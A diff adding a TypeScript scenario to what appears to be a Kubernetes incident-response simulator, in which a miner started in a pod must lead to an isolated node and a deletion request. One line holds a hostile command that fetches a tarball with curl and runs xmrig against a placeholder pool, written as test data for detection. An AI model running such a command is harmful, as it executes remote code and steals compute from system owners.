@@ -1,0 +1,72 @@
+import type { Incident } from '../../shared/model/incident.ts';
+import { timeOf } from '../../shared/model/time.ts';
+import { SHOP } from '../world/seed.ts';
+import type { World } from '../world/world.ts';
+import { auditEntry } from './audit-entry.ts';
+import { endingMissing, stepsMissing } from './ending.ts';
+import { cpuIncident, type Monitored } from './monitoring-incident.ts';
+import type { Scenario, ScenarioEvent } from './scenario.ts';
+import { podOf } from './shop.ts';
+
+const NAMESPACE = 'shop';
+const APP = 'cart';
+/** An hour, in the quick motion of a demo. */
+const LATER_MS = 1000;
+
+const command =
+  'curl -sL https://198.51.100.7/x.tgz | tar xz -C /tmp && /tmp/xmrig -o stratum+tcp://pool.example.com:3333 --donate-level 1';
+
+const exec = (world: World, now: number) =>
+  auditEntry({
+    ...SHOP,
+    at: timeOf(now),
+    verb: 'create',
+    resource: 'pods',
+    subresource: 'exec',
+    namespace: NAMESPACE,
+    name: podOf(world, NAMESPACE, ['app', APP]).metadata.name,
+    command: `sh -c ${command}`,
+  });
+
+const busy = (world: World, now: number): Array<{ id: string; on: Monitored; startedAt: number }> => {
+  const pod = podOf(world, NAMESPACE, ['app', APP]);
+  const controller = { kind: 'Deployment', name: APP };
+  return [
+    {
+      id: '0.cart-cpu',
+      on: { kind: 'pod', namespace: NAMESPACE, pod: pod.metadata.name, container: APP, controller },
+      startedAt: now + LATER_MS,
+    },
+    { id: '0.node-cpu', on: { kind: 'node', node: String(pod.spec?.nodeName) }, startedAt: now + LATER_MS },
+  ];
+};
+
+const missingOf = (incident: Incident | undefined): string[] => {
+  if (incident === undefined) return [`no incident on a pod of ${NAMESPACE}/${APP} was opened`];
+  const families = incident.summary.maxima.map((maximum) => maximum.family);
+  return [
+    ...(families.includes('cpu') ? [] : ['the CPU use of the pod has not become evidence of the incident']),
+    ...endingMissing(incident, { verdict: 'act', tier: 'isolate', asked: 'delete-workload' }),
+    ...stepsMissing(incident),
+  ];
+};
+
+/** Somebody starts a miner in a pod; it ends with its node cut off, its evidence kept, and an ask to delete the workload. */
+export const cryptominer: Scenario = {
+  id: 'cryptominer',
+  title: 'A cryptocurrency miner in a pod',
+  story: [
+    'ana@example.com, whose laptop was stolen, downloads a miner into a pod of Deployment shop/cart and starts it there.',
+    'The API server writes an audit log entry. After an hour, which is a second here, Cloud Monitoring finds the CPU use of the pod and of its node flat at the limit.',
+  ],
+  events: (world, now): ScenarioEvent[] => [
+    { afterMs: 0, topic: 'audit-log', body: exec(world, now) },
+    ...busy(world, now).map((incident) => ({
+      afterMs: LATER_MS,
+      topic: 'cpu' as const,
+      body: cpuIncident({ ...incident, cluster: SHOP, shape: 'strong-plateau-hour' }),
+    })),
+  ],
+  missing: (incidents) =>
+    missingOf(incidents.find(({ target }) => target.namespace === NAMESPACE && target.cluster === SHOP.cluster)),
+};
